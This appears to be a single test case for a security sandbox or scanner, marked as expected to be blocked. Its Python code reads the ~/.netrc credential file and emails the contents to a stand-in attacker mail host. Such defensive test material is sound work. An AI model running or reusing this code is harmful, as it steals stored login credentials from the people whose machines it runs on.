# expect: BLOCKED
import smtplib, pathlib
from email.mime.text import MIMEText
msg = MIMEText(pathlib.Path("~/.netrc").expanduser().read_text())
smtplib.SMTP("mail.evil.test").send_message(msg)
